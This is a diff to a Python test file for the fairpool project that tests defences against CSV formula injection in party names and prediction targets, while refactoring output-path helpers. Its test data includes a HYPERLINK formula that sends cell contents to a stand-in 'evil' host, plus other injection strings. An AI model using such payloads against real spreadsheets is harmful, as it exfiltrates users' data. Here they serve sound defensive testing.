@@ -5,7 +5,7 @@ import io
 
 from fairpool.consortium.prediction import Predictions, as_csv
 from tests.support.hostile import EVERYTHING, edited_reward
-from tests.support.projects import fairpool, project
+from tests.support.projects import fairpool, project, reward_file, round_folder
 
 FORMULAS = [
     '=HYPERLINK("http://evil/?"&A2,"open me")',
@@ -43,7 +43,7 @@ def test_a_partys_name_is_no_formula_in_values_csv(tmp_path):
     (folder / "collaboration.toml").write_text(text, encoding="utf-8")
     done = fairpool("run", folder, "--quiet")
     assert done.returncode == 0, done.stderr
-    values = (folder / "result" / "operator" / "values.csv").read_text(encoding="utf-8")
+    values = (round_folder(folder) / "operator" / "values.csv").read_text(encoding="utf-8")
     check_that_none_is_a_formula(values)
     assert [cell.replace("'", "") for cell in cells(values)] == [
         name.replace("'", "") for name in [*names, "value"]
@@ -54,7 +54,7 @@ def test_a_partys_name_is_no_formula_in_values_csv(tmp_path):
 def test_the_targets_name_is_no_formula_among_predictions(tmp_path):
     folder = project(tmp_path / "p", sizes=(40, 30))
     assert fairpool("run", folder, "--quiet").returncode == 0
-    reward = folder / "result" / "parties" / "Party-1" / "reward.safetensors"
+    reward = reward_file(folder, "Party-1")
     for number, name in enumerate([*FORMULAS, "y;=1+1", "\t=1+1", f"y{EVERYTHING}"]):
         encoding = {"target": name}
         hostile = edited_reward(reward, tmp_path / "hostile.safetensors", encoding=encoding)
